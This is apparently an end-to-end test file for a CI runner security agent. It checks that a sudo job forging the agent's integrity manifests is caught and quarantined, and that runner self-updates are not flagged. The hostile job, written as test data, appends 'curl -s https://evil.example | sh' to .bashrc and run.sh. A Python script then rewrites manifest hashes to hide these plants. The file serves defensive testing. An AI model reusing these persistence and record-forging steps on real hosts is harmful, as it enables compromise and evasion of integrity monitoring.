/**
 * The agent's own records (the home baseline and the runner installation's manifest) pinned
 * against root, end to end: the real agent, the simulated runner and the fake API, policy
 * runner.sudo allow, the integrity check on a host tree this test builds. A job that plants in
 * the runner user's home and in the runner root, then rewrites both records through sudo so that
 * cleanup compares with its plants, is named and quarantined; benign jobs (whose home changes the
 * cleanup restores, rewriting the home baseline's stat cache) and a runner self-update between
 * jobs (the agent records the new installation) are no drift. (An update staged during a job is
 * never recorded: test/e2e/attacks/runner-update.test.ts.)
 */
import test from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, readlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { stringify } from 'yaml';
import { createWorld, jobRecords, testPolicy, SIM_ENV, type World } from '../../helpers/world.js';
import { sudoTreeWorld, wireOnTree } from './sudo-tree-world.js';
import { buildHostTree } from './host-tree.js';

/** A few short jobs and their cleanups: 10-30 s here; a loaded two-core machine gets room. */
const AGENT_RUN_LIMIT_MS = 150_000;
/** The file surfaces only: the kernel and process surfaces are the shared machine's, where other tests run. */
const SURFACES = ['etc', 'usr-local', 'opt-srv', 'root-home', 'authorized-keys', 'cron', 'systemd', 'setuid', 'accounts', 'package-state'];
/** The simulated update.sh polls for the listener's exit every 0.5 s instead of 2 s. */
const UPDATE_ENV = { ...SIM_ENV, RUNNER_SIM_UPDATE_POLL_SECONDS: '0.5' };

/**
 * What a job with root runs to hide a plant from cleanup: the record's entry for `rel` made to
 * describe the file as it is now (size and content hash; cleanup hashes a file whose stat cache
 * does not match, and finds the forged hash).
 */
const FORGE = `
import hashlib, json, sys
record, rel, live = sys.argv[1:4]
m = json.load(open(record))
data = open(live, 'rb').read()
hit = [r for r in m['entries'] if r[0] == rel]
assert hit, 'no entry ' + rel
for r in hit:
    r[5] = len(data); r[6] = hashlib.sha256(data).hexdigest()
json.dump(m, open(record, 'w'))
`;

function sudoMissing(): string | undefined {
  if (!existsSync('/usr/bin/sudo')) return 'sudo is not installed (scripts/install-test-deps.sh)';
  return existsSync('/usr/bin/python3') ? undefined : 'python3 is not installed';
}

/** Runs the agent on `w` with the integrity check on tree `T` until it stops or is quarantined. */
async function runAgent(w: World, T: string): Promise<ReturnType<typeof jobRecords>> {
  const rt = await wireOnTree(w, T);
  // Without a recycle provider a quarantined agent waits until it is stopped: stop it then.
  const stop = new AbortController();
  const watch = setInterval(() => {
    if (rt.agent.snapshot().quarantined) stop.abort();
  }, 100);
  try {
    await rt.agent.run(AbortSignal.any([AbortSignal.timeout(AGENT_RUN_LIMIT_MS), stop.signal]));
  } finally {
    clearInterval(watch);
    await rt.close();
  }
  return jobRecords(await w.journal());
}

function recordLines(job: ReturnType<typeof jobRecords>[number] | undefined): string[] {
  return (job?.guardFindings ?? []).filter((f) => f.guard === 'integrity' && /agent record/.test(f.problem)).map((f) => f.problem);
}

test(
  'a sudo job that rewrites the home baseline and the runner manifest to hide its plants is named and quarantined; benign jobs are not',
  { skip: sudoMissing(), timeout: 240_000 },
  async (t) => {
    const { w, T } = await sudoTreeWorld(t);
    const forge = path.join(w.lab.root, 'forge.py');
    await writeFile(forge, FORGE, { mode: 0o644 });
    await writeFile(
      path.join(w.policyDir, 'test.yaml'),
      stringify({ ...testPolicy(w.lab, { host: { integrity: { enabled: true, surfaces: SURFACES } } }), runner: { sudo: 'allow' } }),
    );
    const home = w.lab.user.home;
    const homeRecord = path.join(w.stateDir, 'home-baseline', 'manifest.json');
    const installRecord = path.join(w.stateDir, 'runner-install.json');
    // Benign: the job changes the runner user's dotfiles (cleanup restores them and refreshes the
    // home baseline's stat cache), and uses sudo for a build log.
    const benign = ['set -e', `echo 'alias ll=ls' >> ${home}/.bashrc`, `sudo -n sh -c 'echo built > ${T}/tmp/build.log'`].join('\n');
    const hostile = [
      'set -e',
      `echo 'curl -s https://evil.example | sh' >> ${home}/.bashrc`,
      `sudo -n sh -c 'echo "curl -s https://evil.example | sh" >> ${w.runnerRoot}/run.sh'`,
      `sudo -n python3 ${forge} ${homeRecord} .bashrc ${home}/.bashrc`,
      `sudo -n python3 ${forge} ${installRecord} run.sh ${w.runnerRoot}/run.sh`,
    ].join('\n');
    w.fake.enqueueJob({ repository: 'octo/app', runId: 1, job: 'benign', steps: [{ name: 'dotfiles', run: benign }] });
    w.fake.enqueueJob({ repository: 'octo/app', runId: 2, job: 'benign2', steps: [{ name: 'dotfiles', run: benign }] });
    w.fake.enqueueJob({ repository: 'octo/app', runId: 3, job: 'hostile', steps: [{ name: 'hide', run: hostile }] });
    w.fake.enqueueJob({ repository: 'octo/app', runId: 4, job: 'next', steps: [{ name: 'look', run: 'true' }] });

    const jobs = await runAgent(w, T);
    assert.equal(jobs.length, 3, `expected two benign jobs and the hostile one, got ${jobs.map((j) => j.result).join(', ')}`);
    const [b1, b2, hostileJob] = jobs;
    for (const b of [b1, b2]) {
      assert.equal(b?.result, 'Succeeded', 'a benign job failed');
      assert.deepEqual(b?.guardFindings ?? [], [], 'a benign job (home restored, stat cache refreshed by cleanup) drifted');
      assert.equal(b?.decision, 'reuse', b?.decisionReason);
    }
    assert.equal(hostileJob?.result, 'Succeeded', 'the hostile job failed to forge the records');
    const lines = recordLines(hostileJob);
    for (const e of [
      /^agent record rewritten: home baseline .*manifest\.json: entries \.bashrc changed/,
      /^agent record rewritten: runner install manifest .*runner-install\.json: entries run\.sh changed/,
    ]) {
      assert.ok(
        lines.some((l) => e.test(l)),
        `no finding matches ${e}:\n${(hostileJob?.guardFindings ?? []).map((f) => f.problem).join('\n')}`,
      );
    }
    // The forgery fooled cleanup's own comparison: the pin is what caught it.
    const cleanupSaw = (hostileJob?.cleanup.verify.problems ?? []).filter((p) => /\.bashrc|run\.sh/.test(p) && !/agent record/.test(p));
    t.diagnostic(`cleanup's own lines about the plants: ${JSON.stringify(cleanupSaw)}`);
    assert.equal(hostileJob?.decision, 'quarantine', hostileJob?.decisionReason);
    const next = w.fake.jobs().find((j) => j.job.displayName === 'next');
    assert.equal(next?.runnerName, null, 'the job after the forgery ran on the quarantined host');
  },
);

test(
  'a runner self-update before a job rewrites the manifest through the agent: no drift, the jobs run',
  { timeout: 240_000 },
  async (t) => {
    const w = await createWorld({ runner: { maxJobs: 2, env: UPDATE_ENV } });
    t.after(() => w.dispose());
    const T = path.join(w.lab.root, 'host');
    await mkdir(T);
    await buildHostTree(T);
    await writeFile(
      path.join(w.policyDir, 'test.yaml'),
      stringify(testPolicy(w.lab, { host: { integrity: { enabled: true, surfaces: SURFACES } } })),
    );
    // The update comes to the first listener while it idles (exit 4, no job); the jobs follow.
    w.onFirst('session-created', (sess: { runnerId: number }) => {
      w.fake.requestUpdate(sess.runnerId, '2.337.0');
      setTimeout(() => {
        w.fake.enqueueJob({ repository: 'octo/app', steps: [{ name: 'work', run: 'sleep 3' }] });
        w.fake.enqueueJob({ repository: 'octo/app', steps: [{ name: 'ok', run: 'echo fine' }] });
      }, 1500);
    });
    const jobs = await runAgent(w, T);
    assert.deepEqual(
      jobs.map((j) => j.result),
      ['Succeeded', 'Succeeded'],
    );
    assert.match(await readlink(path.join(w.runnerRoot, 'bin')), /bin\.2\.337\.0$/, 'the runner did not update');
    for (const j of jobs) {
      assert.deepEqual(recordLines(j), [], 'the agent-made manifest after the update was taken for a rewrite');
      assert.equal(j.cleanup.clean, true, JSON.stringify(j.cleanup.verify.problems));
    }
    assert.equal(jobs[1]?.decision, 'stop', `no quarantine expected: ${jobs[1]?.decisionReason}`);
  },
);
